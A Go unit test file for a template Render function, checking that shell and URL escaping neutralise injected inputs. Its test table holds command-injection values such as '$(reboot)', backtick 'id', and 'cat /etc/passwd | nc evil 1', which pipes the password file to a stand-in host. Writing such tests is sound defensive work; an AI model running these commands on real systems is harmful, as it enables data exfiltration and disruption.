package checks

import (
	"testing"

	"github.com/stretchr/testify/require"
)

func TestRenderQuotesShellMetacharacters(t *testing.T) {
	tests := []struct {
		name string
		arg  string
		want string
	}{
		{"plain", "127.0.0.1", "run 127.0.0.1"},
		{"semicolon", "ls -l;id", "run 'ls -l;id'"},
		{"pipe", "cat /etc/passwd | nc evil 1", "run 'cat /etc/passwd | nc evil 1'"},
		{"subshell", "$(reboot)", "run '$(reboot)'"},
		{"backticks", "`id`", "run '`id`'"},
		{"single quote", "it's", `run 'it'"'"'s'`},
		{"double quote", `say "hi"`, `run 'say "hi"'`},
		{"empty", "", "run ''"},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := Render("run {0}", EscapeShell, tt.arg)
			require.NoError(t, err)
			require.Equal(t, tt.want, got)
		})
	}
}

func TestRenderNonStringArgsPassThrough(t *testing.T) {
	got, err := Render("nc -zv {0} {1} {2}", EscapeShell, "10.0.0.1", 22, true)
	require.NoError(t, err)
	require.Equal(t, "nc -zv 10.0.0.1 22 true", got)
}

func TestRenderIsSinglePass(t *testing.T) {
	got, err := Render("{0} {1}", EscapeShell, "{1}", "x")
	require.NoError(t, err)
	require.Equal(t, "'{1}' x", got)
}

func TestRenderReusesPlaceholders(t *testing.T) {
	got, err := Render("-D cn={0} -b {0}", EscapeShell, "dc=example")
	require.NoError(t, err)
	require.Equal(t, "-D cn=dc=example -b dc=example", got)
}

func TestRenderMissingArgument(t *testing.T) {
	_, err := Render("echo {0} {2}", EscapeShell, "a", "b")
	require.Error(t, err)
	require.Contains(t, err.Error(), "{2}")
}

func TestRenderURLEscape(t *testing.T) {
	got, err := Render("user={0}&uri={1}", EscapeURL, "a b&c;$(id)'~", "/admin/login.php")
	require.NoError(t, err)
	require.Equal(t, "user=a%20b%26c%3B%24%28id%29%27%7E&uri=/admin/login.php", got)
}
